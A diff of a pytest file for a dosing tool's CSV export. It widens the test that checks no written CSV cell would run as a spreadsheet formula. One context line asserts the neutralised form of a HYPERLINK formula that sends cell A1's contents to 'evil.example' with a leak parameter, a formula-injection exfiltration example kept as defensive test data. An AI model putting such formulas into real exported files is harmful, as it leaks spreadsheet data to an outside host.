@@ -11,7 +11,7 @@ import pytest
 from click.testing import CliRunner
 
 from dosing.cli import main
-from dosing.io.csv_out import neutralise, safe_frame, write_csv
+from dosing.io.csv_out import neutralise, safe_cell, safe_frame, write_csv
 from tests.seed_variants import private_config  # noqa: F401  (autouse: keeps $XDG_CONFIG_HOME private)
 
 
@@ -159,12 +159,16 @@ def test_formula_in_site_and_instructions_is_neutralised_in_worklist(outputs: Pa
     assert set(x["instructions"]) == {'\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for instructions")'}
 
 
-@pytest.mark.parametrize("name", ["doses.csv", "worklist.csv", "patients/P-2/doses.csv"])
-def test_no_cell_of_any_csv_would_run_in_a_spreadsheet(outputs: Path, name: str) -> None:
-    text = (outputs / name).read_text(encoding="utf-8-sig")
-    for row in csv.reader(text.splitlines()):
-        for cell in row:
-            assert cell == neutralise(cell), (name, cell)
+def test_no_cell_of_any_csv_would_run_in_a_spreadsheet(outputs: Path) -> None:
+    """Every CSV that generate writes (also those added later), read as a spreadsheet would."""
+    written = sorted(outputs.rglob("*.csv"))
+    assert {"doses.csv", "worklist.csv", "patients/P-2/doses.csv"} <= {str(p.relative_to(outputs)) for p in written}
+    for path in written:
+        assert path.read_bytes().startswith(b"\xef\xbb\xbf"), path
+        with path.open(encoding="utf-8-sig", newline="") as handle:
+            for row in csv.reader(handle):
+                for cell in row:
+                    assert cell == safe_cell(cell), (path, cell)
 
 
 @pytest.mark.parametrize("name", ["doses.csv", "worklist.csv"])
